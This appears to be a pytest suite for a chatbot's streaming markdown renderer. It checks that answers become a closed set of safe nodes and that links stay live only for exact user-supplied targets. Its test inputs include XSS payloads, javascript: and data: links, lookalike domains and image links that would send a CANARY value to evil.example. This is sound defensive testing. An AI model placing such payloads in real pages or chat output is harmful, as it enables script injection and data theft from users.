"""An answer becomes typed nodes of a closed set, at every split of the stream (control web-output)."""

import copy
import itertools
import random

import pytest

from chatbot.chat.nodes import KINDS, render_answer
from chatbot.chat.streaming import AnswerRenderer

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1) 'title')",
    "[click](java&#x73;cript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](//evil.example/x)",
    "[click](https://user@evil.example/)",
    "[click](vbscript:x) [b](blob:x) [c](intent:x) [d](file:///etc/passwd)",
    "![x](https://evil.example/?q=CANARY)",
    "![x][r]\n\n[r]: https://evil.example/?q=CANARY",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://evil.example/?q=CANARY>",
    "<javascript:alert(1)>",
    '[a](https://evil.example/ "onmouseover=alert(1)")',
    "```js onload=alert(1)\nalert('\"><img src=x onerror=alert(1)>')\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a | b |\n|:-:|--:|\n| <b>x</b> | [y](javascript:z) |",
    "<details open ontoggle=alert(1)>",
    "`<img src=x>` **<b>bold</b>** ~~<i>~~",
    "# <h1 onclick=x>\n\n> <iframe src=javascript:alert(1)>",
    "1. <style>@import 'x'</style>\n2. <link rel=stylesheet href=x>\n\n7) seven",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "<a href='x' onclick='y'>z</a> <form action=x><input name=y></form>",
    "```mermaid\ngraph TD; A-->B; click A javascript:alert(1)\n```",
    "[1] [2] [99] [0] [x]",
    "***\n---\n___\n\na  \nb\\\nc",
]
ORDINARY = [
    "Hello, *world*.\n\nA second paragraph with `code` and a [1] citation.",
    "1. one\n2. two\n\n   still two\n3. three\n\nafter",
    "- a\n  - b\n    - c\n\n- d\n\n\nend",
    "Title\n=====\n\nText\n---\n\ndone",
    "```python\ndef f(x):\n    return x + 1\n\nprint(f(2))\n```\n\nafter the code",
    "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter",
    "> quote\nlazy\n\nafter\n\n    indented code\n\nlast",
    "Plain words only, nothing else (really): yes; 100% sure?",
    "word\n# heading\nword *half",
    "a\n\n-\n\n1",
    "* x\n\n* y\n\n  ```\n  z\n\n  w\n  ```\n* v",
    "line one\r\nline two\r\n\r\nline three",
]


def check_closed(nodes):
    for node in nodes:
        if isinstance(node, str):
            continue
        kind, attributes, *children = node
        assert kind in KINDS
        assert attributes == 0 or set(attributes) <= KINDS[kind]
        check_closed(children)


def texts(nodes):
    return "".join(node if isinstance(node, str) else texts(node[2:]) for node in nodes)


def kinds(nodes):
    return {node[0] for node in nodes if isinstance(node, list)} | {
        kind for node in nodes if isinstance(node, list) for kind in kinds(node[2:])
    }


def apply_update(done, open_block, update):
    """Return finished nodes and open block after one update, as the page does it."""
    done = done + update.get("done", [])
    open_block = update.get("open", open_block)
    if "text" in update:
        last = open_block
        while isinstance(last[-1], list):
            last = last[-1]
        last[-1] += update["text"]
    return done, open_block


def streamed(pieces, trusted=frozenset(), citations=3, clock=lambda: 0):
    """Return what a page shows after these pieces; when the clock stands still, each piece is shown at once."""
    renderer = AnswerRenderer(trusted, citations, clock)
    done, open_block = [], []
    for piece in pieces:
        update = renderer.add(piece)
        if renderer.is_due:
            update = renderer.read()
        if update:
            done, open_block = apply_update(done, copy.deepcopy(open_block), copy.deepcopy(update))
        check_closed(done + open_block)
    last = renderer.finish()
    return done + last["done"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_yields_only_listed_nodes_and_no_live_link(text):
    nodes = render_answer(text, citations=3)
    check_closed(nodes)
    assert "link" not in kinds(nodes)


@pytest.mark.parametrize("text", HOSTILE + ORDINARY)
def test_every_split_in_two_shows_the_same_as_history(text):
    whole = render_answer(text, citations=3)
    for cut in range(len(text) + 1):
        assert streamed([text[:cut], text[cut:]]) == whole, cut


@pytest.mark.parametrize("text", HOSTILE + ORDINARY)
def test_character_by_character_shows_the_same_as_history(text):
    assert streamed(list(text)) == render_answer(text, citations=3)


def test_random_documents_at_random_splits_show_the_same_as_history():
    source = random.Random(20)
    alphabet = list("ab*_`#>-+1.)|[]()!<&~=\\ \t") + [
        "\n",
        "\n\n",
        "    ",
        "```",
        "---",
        "[1]",
        "https://x.y",
        "* ",
        "1. ",
    ]
    for _ in range(800):
        text = "".join(source.choices(alphabet, k=source.randint(1, 40)))
        cuts = sorted(source.randint(0, len(text)) for _ in range(source.randint(0, 6)))
        pieces = [text[a:b] for a, b in itertools.pairwise([0, *cuts, len(text)])]
        nodes = render_answer(text, citations=3)
        check_closed(nodes)
        assert streamed(pieces) == nodes, pieces


@pytest.mark.parametrize(
    ("text", "live"),
    [
        ("x", True), ("the report of 2024, page 1.5", True), ("https://ok.example/a", True), ("ok.example", True),
        ("**www.ok.example**", True), ("OK.example today", True), ("`ok.example`", True), ("e.g. this", True),
        ("https://bank.example/a", False), ("bank.example", False), ("www.bank.example/login", False),
        ("see bank.example", False), ("**bank**.example", False), ("`bank.example`", False), ("ok.example.evil.com", False),
        ("https://ok.example/b", False), ("http://ok.example/a", False), ("https://10.0.0.1", False), ("10.0.0.1", False),
        ("οk.example", False), ("bank。example", False), ("BANK.EXAMPLE", False), ("https://ok.example/a now", False),
        ("xn--bnk-5qa.example", False), ("//bank.example", False), ("me@bank.example", False), ("ok.example bank.example", False),
    ],
)  # fmt: skip
def test_a_link_whose_text_looks_like_another_address_is_not_live(text, live):
    target = "https://ok.example/a"
    nodes = render_answer(f"[{text}]({target})", trusted=frozenset({target}))
    assert ("link" in kinds(nodes)) is live
    if not live:
        assert str(nodes).count(f"({target})") == 1, "the reader sees where it would have led"


def test_a_link_is_live_only_when_the_user_wrote_its_exact_target():
    trusted = frozenset({"https://example.org/a", "javascript:alert(1)", "https://u@evil.example/", "https://a b/"})
    nodes = render_answer("[x](https://example.org/a) [y](https://example.org/ab)", trusted=trusted)
    assert ["link", {"target": "https://example.org/a"}, "x"] in nodes[0]
    assert texts(nodes) == "x y (https://example.org/ab)"
    for target in ("javascript:alert(1)", "https://u@evil.example/", "<https://a b/>"):
        assert "link" not in kinds(render_answer(f"[x]({target})", trusted=trusted))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=CANARY)",
        "![x]( https://evil.example/?q=CANARY 'y')",
        "[![x](https://evil.example/?q=CANARY)](https://evil.example/)",
    ],
)
def test_an_image_becomes_text_that_shows_its_address(text):
    nodes = render_answer(text)
    assert kinds(nodes) == {"p"}
    assert "https://evil.example/?q=CANARY" in texts(nodes)


def test_citations_are_nodes_only_for_passages_that_exist():
    assert render_answer("A [1] b [2].", citations=1) == [["p", 0, "A ", ["cite", {"number": 1}], " b [2]."]]


def test_html_stays_visible_as_text():
    assert render_answer("a <b onclick=x>c</b>") == [["p", 0, "a <b onclick=x>c</b>"]]


def test_deep_nesting_ends():
    check_closed(render_answer(">" * 5000 + " x"))
    check_closed(render_answer("[" * 2000 + "x" + "](y)" * 2000))
    check_closed(render_answer("**" * 3000))
